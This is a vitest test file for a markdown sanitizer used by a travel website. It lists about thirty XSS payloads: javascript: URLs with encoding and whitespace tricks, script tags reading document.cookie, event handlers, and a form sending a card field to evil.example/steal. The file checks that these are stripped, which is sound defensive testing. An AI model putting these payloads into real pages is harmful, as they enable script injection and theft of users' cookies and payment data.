import { describe, expect, it } from 'vitest';
import { excerptFromMarkdown } from './excerpt';
import { imageSources, markdownToHtml, parseMarkdown } from './markdown';
import { countWords } from './reading-time';

type Hostile = {
  name: string;
  markdown: string;
  /** Must not appear in the output (checked case-insensitively). */
  gone: (string | RegExp)[];
  /** Harmless text that must survive. */
  kept: string[];
};

/** Every case: the dangerous part is gone AND the harmless text is still there. */
const hostile: Hostile[] = [
  { name: 'javascript: link', markdown: '[click me](javascript:alert(1))', gone: ['javascript', 'alert'], kept: ['click me'] },
  {
    name: 'javascript: in mixed case',
    markdown: '<a href="JaVaScRiPt:alert(1)">mixed</a>',
    gone: ['javascript', 'alert'],
    kept: ['mixed'],
  },
  {
    name: 'javascript: with leading spaces',
    markdown: '<a href="   javascript:alert(1)">spaced</a>',
    gone: ['javascript', 'alert'],
    kept: ['spaced'],
  },
  {
    name: 'javascript: with a tab entity inside',
    markdown: '<a href="jav&#x09;ascript:alert(1)">tabbed</a>',
    gone: ['ascript', 'alert'],
    kept: ['tabbed'],
  },
  {
    name: 'javascript: with a raw newline inside',
    markdown: '<a href="java\nscript:alert(1)">newline</a>',
    gone: ['script:', 'alert'],
    kept: ['newline'],
  },
  {
    name: 'javascript: entity-encoded',
    markdown: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">encoded</a>',
    gone: ['javascript', '&#106;', 'alert'],
    kept: ['encoded'],
  },
  {
    name: 'javascript: hex entities without semicolons',
    markdown: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">hex</a>',
    gone: ['javascript', 'alert'],
    kept: ['hex'],
  },
  {
    name: 'data: URL link',
    markdown: '[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    gone: ['data:', 'base64'],
    kept: ['open'],
  },
  {
    name: 'vbscript: URL link',
    markdown: '<a href="vbscript:msgbox(1)">legacy</a>',
    gone: ['vbscript', 'msgbox'],
    kept: ['legacy'],
  },
  {
    name: 'data: image source',
    markdown: '![a pixel](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)',
    gone: ['data:', 'base64'],
    kept: ['a pixel'],
  },
  {
    name: '<img onerror>',
    markdown: 'Look <img src="x" onerror="alert(1)"> here',
    gone: ['onerror', 'alert'],
    kept: ['Look', 'here'],
  },
  {
    name: '<svg onload>',
    markdown: '<svg onload="alert(1)"><text>drawn</text></svg>',
    gone: ['<svg', 'onload', 'alert'],
    kept: ['drawn'],
  },
  {
    name: '<script> block',
    markdown: 'Before\n\n<script>alert(document.cookie)</script>\n\nAfter',
    gone: ['<script', 'alert', 'cookie'],
    kept: ['Before', 'After'],
  },
  { name: 'inline <script>', markdown: 'Safe <script>steal()</script> text', gone: ['<script', 'steal'], kept: ['Safe', 'text'] },
  {
    name: '<iframe>',
    markdown: 'Video: <iframe src="https://evil.example/"></iframe> end',
    gone: ['<iframe', 'evil.example'],
    kept: ['Video:', 'end'],
  },
  {
    name: '<iframe srcdoc>',
    markdown: '<iframe srcdoc="<script>alert(1)</script>">framed</iframe>',
    gone: ['<iframe', 'srcdoc', 'alert'],
    kept: [],
  },
  {
    name: '<math><a xlink:href>',
    markdown: '<math><a xlink:href="javascript:alert(1)">formula</a></math>',
    gone: ['<math', 'xlink', 'javascript', 'alert'],
    kept: ['formula'],
  },
  {
    name: '<form> with an input and a button',
    markdown:
      '<form action="https://evil.example/steal"><input name="card" value="x"><button formaction="javascript:alert(1)">Pay</button></form>',
    gone: ['<form', 'action=', '<input', '<button', 'formaction', 'evil.example', 'javascript'],
    kept: ['Pay'],
  },
  {
    name: 'style attribute',
    markdown: '<p style="position:fixed;top:0;left:0">pinned text</p>',
    gone: ['style=', 'position:fixed'],
    kept: ['<p>pinned text</p>'],
  },
  {
    name: '<style> element',
    markdown: '<style>body { display: none }</style>\n\nVisible text',
    gone: ['<style', 'display: none'],
    kept: ['Visible text'],
  },
  {
    name: '<object> and <embed>',
    markdown: '<object data="evil.swf">fallback</object><embed src="evil.swf">',
    gone: ['<object', '<embed', 'evil.swf'],
    kept: ['fallback'],
  },
  {
    name: 'event handler on an allowed tag',
    markdown: '<strong onclick="alert(1)" onmouseover="alert(2)">bold</strong>',
    gone: ['onclick', 'onmouseover', 'alert'],
    kept: ['<strong>bold</strong>'],
  },
  {
    name: 'javascript: in a reference-style link',
    markdown: '[ref link][x]\n\n[x]: javascript:alert(1)',
    gone: ['javascript', 'alert'],
    kept: ['ref link'],
  },
  { name: 'javascript: in an autolink', markdown: '<javascript:alert(1)>', gone: ['href="javascript'], kept: [] },
  { name: 'javascript: image source', markdown: '![photo](javascript:alert(1))', gone: ['javascript', 'alert'], kept: ['photo'] },
  {
    name: 'unsafe protocol in blockquote cite',
    markdown: '<blockquote cite="javascript:alert(1)">quoted</blockquote>',
    gone: ['javascript', 'alert'],
    kept: ['quoted'],
  },
  {
    name: '<base> and <meta refresh>',
    markdown: '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">Text',
    gone: ['<base', '<meta', 'evil.example'],
    kept: ['Text'],
  },
  {
    name: 'tabindex and accesskey hijacking the keyboard',
    markdown: '<span tabindex="1" accesskey="s">focus trap</span>',
    gone: ['tabindex', 'accesskey'],
    kept: ['focus trap'],
  },
  {
    name: 'id clobbering a page element',
    markdown: '<p id="main-content">clobber</p>',
    gone: ['id="main-content"'],
    kept: ['clobber', 'id="user-content-main-content"'],
  },
];

describe('markdownToHtml: hostile input', () => {
  it('has a table of at least 20 cases', () => {
    expect(hostile.length).toBeGreaterThanOrEqual(20);
  });

  it.each(hostile)('$name', async ({ markdown, gone, kept }) => {
    const html = await markdownToHtml(markdown);
    const lower = html.toLowerCase();
    for (const danger of gone) {
      if (typeof danger === 'string') expect(lower).not.toContain(danger.toLowerCase());
      else expect(html).not.toMatch(danger);
    }
    for (const text of kept) expect(html).toContain(text);
  });
});

describe('markdownToHtml: what editors write', () => {
  it('renders bold, italic, bullet and numbered lists', async () => {
    const html = await markdownToHtml('Some **bold** and *italic* and _also italic_.\n\n- one\n- two\n\n1. first\n2. second\n');
    for (const part of ['<strong>bold</strong>', '<em>italic</em>', '<em>also italic</em>']) expect(html).toContain(part);
    expect(html).toMatch(/<ul>\s*<li>one<\/li>\s*<li>two<\/li>\s*<\/ul>/);
    expect(html).toMatch(/<ol>\s*<li>first<\/li>\s*<li>second<\/li>\s*<\/ol>/);
  });

  it.each([
    ['https', '[site](https://example.com/a?b=1&c=2)', 'href="https://example.com/a?b=1&#x26;c=2"'],
    ['http', '[site](http://example.com/)', 'href="http://example.com/"'],
    ['mailto', '[mail us](mailto:info@travelorchard.example)', 'href="mailto:info@travelorchard.example"'],
    ['xmpp', '[chat](xmpp:desk@travelorchard.example)', 'href="xmpp:desk@travelorchard.example"'],
    ['irc', '[irc](irc://irc.libera.chat/travel)', 'href="irc://irc.libera.chat/travel"'],
    ['ircs', '[ircs](ircs://irc.libera.chat/travel)', 'href="ircs://irc.libera.chat/travel"'],
    ['relative', '[services](/services/#visa-advisory)', 'href="/services/#visa-advisory"'],
    ['fragment', '[below](#packing)', 'href="#packing"'],
  ])('keeps %s links', async (_name, markdown, expected) => {
    expect(await markdownToHtml(markdown)).toContain(expected);
  });

  it('keeps harmless inline HTML', async () => {
    const html = await markdownToHtml('A <em>very</em> <strong>good</strong> <kbd>Ctrl</kbd> trip H<sub>2</sub>O<br>next line');
    for (const part of ['<em>very</em>', '<strong>good</strong>', '<kbd>Ctrl</kbd>', 'H<sub>2</sub>O', '<br>']) {
      expect(html).toContain(part);
    }
  });

  it('keeps https images with their alt text and loads them lazily', async () => {
    const html = await markdownToHtml('![Hikers above Zermatt](https://images.unsplash.com/photo-1551632811-561732d1e306)');
    expect(html).toContain('src="https://images.unsplash.com/photo-1551632811-561732d1e306"');
    expect(html).toContain('alt="Hikers above Zermatt"');
    expect(html).toContain('loading="lazy"');
  });

  it('keeps blockquotes, code and headings', async () => {
    const html = await markdownToHtml('## Packing\n\n> Pack light.\n\n`boots`\n\n```\ncode block\n```');
    expect(html).toContain('<h2>Packing</h2>');
    expect(html).toMatch(/<blockquote>\s*<p>Pack light.<\/p>\s*<\/blockquote>/);
    expect(html).toContain('<code>boots</code>');
    expect(html).toContain('<pre><code>code block');
  });

  it('escapes text that only looks like markup', async () => {
    expect(await markdownToHtml('Prices: 5 < 10 & "quotes"')).toContain('5 &#x3C; 10 &#x26; "quotes"');
  });
});

describe('markdownToHtml: heading levels', () => {
  it('puts the highest heading at level 2 by default, or at the level asked for, keeping the nesting up to h6', async () => {
    const headings = async (markdown: string, topHeadingLevel?: number) =>
      (await markdownToHtml(markdown, { topHeadingLevel })).match(/<h\d>[^<]*<\/h\d>/g);
    expect(await headings('# Top\n\n## Section\n\n### Detail')).toEqual(['<h2>Top</h2>', '<h3>Section</h3>', '<h4>Detail</h4>']);
    expect(await headings('# Top\n\n## Section\n\n###### Deep', 3)).toEqual([
      '<h3>Top</h3>',
      '<h4>Section</h4>',
      '<h6>Deep</h6>',
    ]);
    // A document that starts at h3 is raised.
    expect(await headings('### Only', 2)).toEqual(['<h2>Only</h2>']);
  });
});

describe('markdownToHtml under a base path', () => {
  it('prefixes site-relative links and images, leaves other URLs alone, and prefixes nothing without a base path', async () => {
    const html = await markdownToHtml(
      '[Contact](/contact/) [Visas](/services/#visa-advisory) [Ext](https://example.com/) [Net](//cdn.example/x) ![Alt](/a.png) [Top](#top)',
      { basePath: '/travel-orchard' },
    );
    expect(html).toContain('href="/travel-orchard/contact/"');
    expect(html).toContain('href="/travel-orchard/services/#visa-advisory"');
    expect(html).toContain('src="/travel-orchard/a.png"');
    expect(html).toContain('href="https://example.com/"');
    expect(html).toContain('href="//cdn.example/x"');
    expect(html).toContain('href="#top"');
    expect(await markdownToHtml('[Contact](/contact/)', { basePath: '' }), 'without a base path').toContain('href="/contact/"');
  });
});

describe('one tree for every reader', () => {
  const markdown = [
    '## Packing for the <em>Alps</em>',
    'Boots, **layers** and [a map](/services/).\n\n![A trail](https://images.unsplash.com/photo-1 "Trail")',
    '<picture><source srcset="https://images.unsplash.com/photo-2 640w"><img src="/images/uploads/x.jpg" alt=""></picture>',
    '```\ncode\n```',
  ].join('\n\n');

  it('reads the same HTML, images, excerpt and word count from the parsed tree as from the text, and leaves the tree as parsed', async () => {
    const tree = parseMarkdown(markdown);
    const parsed = JSON.stringify(tree);
    expect(await markdownToHtml(tree, { topHeadingLevel: 3, basePath: '/base' })).toBe(
      await markdownToHtml(markdown, { topHeadingLevel: 3, basePath: '/base' }),
    );
    expect(await markdownToHtml(tree)).toBe(await markdownToHtml(markdown));
    expect(imageSources(tree)).toEqual(imageSources(markdown));
    expect(imageSources(tree)).toEqual([
      'https://images.unsplash.com/photo-1',
      'https://images.unsplash.com/photo-2',
      '/images/uploads/x.jpg',
    ]);
    expect(excerptFromMarkdown(tree)).toBe(excerptFromMarkdown(markdown));
    expect(countWords(tree)).toBe(countWords(markdown));
    expect(JSON.stringify(tree)).toBe(parsed);
  });
});
